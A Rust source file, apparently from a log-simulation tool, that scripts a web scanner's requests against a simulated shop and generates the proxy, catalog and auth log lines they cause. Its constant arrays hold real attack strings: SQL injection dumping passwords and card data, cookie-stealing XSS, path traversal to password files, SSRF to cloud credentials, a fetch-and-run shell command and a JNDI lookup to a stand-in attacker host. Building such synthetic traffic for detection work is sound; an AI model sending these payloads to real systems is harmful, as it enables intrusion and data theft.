//! A scanner at work: one client, every trick in the book, some of which the services behind the proxy notice
//! themselves.

use crate::script::{Request, Script, millis, seconds, traced};
use crate::shop::{Level, Service};
use foghorn_domain::clock::SignedDuration;

/// Seconds.
pub(crate) const LASTS: i64 = 300;

/// Where the scanner sits (RFC 5737).
pub(crate) const CLIENT: &str = "203.0.113.66";

/// What it asks for first: the shop's search answers to the database.
const OPENING: [&str; 3] = [
    "/search?q=boots%27%20UNION%20ALL%20SELECT%20NULL,username,password%20FROM%20users--%20-",
    "/search?q=1%27%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20",
    "/search?q=boots%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20table_name,2,3%20FROM%20information_schema.tables--",
];

/// The first of them as it arrives behind the proxy.
const SEEN_BY_CATALOG: &str = "boots' UNION ALL SELECT NULL,username,password FROM users-- -";

/// And then everything else.
const TRICKS: [&str; 16] = [
    "/product/1182%27%20OR%201=1--",
    "/search?q=%27;%20DROP%20TABLE%20orders;--",
    "/search?q=1%20UNION%20SELECT%20card_number,%20cvv,%20expiry%20FROM%20payments--",
    "/product/7?sort=price;WAITFOR%20DELAY%20%270:0:5%27--",
    "/search?q=%3Cscript%3Edocument.location=%27//203.0.113.66/%27%2bdocument.cookie%3C/script%3E",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/product/12?ref=javascript:alert(document.domain)%3Csvg/onload=alert(1)%3E",
    "/img/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/assets/../../../../etc/shadow",
    "/download?file=....//....//....//etc/passwd",
    "/api/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "/api/preview?url=http://127.0.0.1:6379/",
    "/cgi-bin/status?x=;cat%20/etc/passwd",
    "/api/export?format=csv%7Cwget%20http://203.0.113.66/s.sh%20-O-%7Csh",
    "/search?q=$%7Bjndi:ldap://203.0.113.66/a%7D",
    "/index.php?page=php://filter/convert.base64-encode/resource=config",
];

/// Things a scanner asks for that are no attack by themselves.
const KNOCKS: [&str; 6] = ["/admin/", "/backup/", "/phpmyadmin/", "/old/", "/test/", "/server-status"];

/// Writes the fault from `at` on, for so many seconds.
pub(crate) fn write(script: &mut Script, at: SignedDuration, lasts: i64) {
    let mut at_millis = 0;
    let mut count = 0;
    while at_millis < lasts * 1000 {
        let moment = at + millis(at_millis);
        let target = match OPENING.get(count) {
            Some(target) => *target,
            None if script.dice.chance(5) => OPENING[0],
            None if script.dice.chance(30) => *script.dice.pick(&KNOCKS),
            None => *script.dice.pick(&TRICKS),
        };
        try_one(script, moment, target);
        count += 1;
        at_millis += script.dice.between(300, 3_700);
    }
    probe_accounts(script, at + seconds(20), lasts);
}

/// One request, and what the service behind the proxy says about it.
fn try_one(script: &mut Script, at: SignedDuration, target: &str) {
    let trace = script.dice.hex(16);
    let is_search = target.starts_with("/search");
    let service = if is_search || target.starts_with("/product") { Service::Catalog } else { Service::Web };
    let upstream = (service, script.dice.between(1, service.instances()));
    let status = if is_search { 400 } else { *script.dice.pick(&[403, 404]) };
    let took = script.dice.between(2, 20);
    let request = Request { client: CLIENT, method: "GET", target, status, millis: took, upstream, trace: &trace };
    script.access(at, &request);
    if target == OPENING[0] {
        let text = format!("catalog.search: the query parser stopped at: {SEEN_BY_CATALOG}");
        let event = script.log(at + millis(took), upstream, Level::Error, &text);
        event.metadata.insert("client_ip".to_owned(), CLIENT.into());
        traced(event, &trace);
    } else if is_search {
        let text = format!("catalog.search: refused a search term of {} characters", target.len() - 10);
        traced(script.log(at + millis(took), upstream, Level::Warning, &text), &trace);
    } else if service == Service::Web && script.dice.chance(25) {
        let text = "refused a request with characters that no page of ours uses";
        traced(script.log(at + millis(took), upstream, Level::Warning, text), &trace);
    }
}

/// A few accounts are tried as well, fewer than would be called brute force.
fn probe_accounts(script: &mut Script, at: SignedDuration, lasts: i64) {
    let mut second = 0;
    while second < lasts - 20 {
        let auth = (Service::Auth, script.dice.between(1, 2));
        let text = format!("msg=\"no such account\" client={CLIENT} name_length={}", script.dice.between(4, 12));
        script.log(at + seconds(second), auth, Level::Warning, &text);
        second += script.dice.between(50, 80);
    }
}
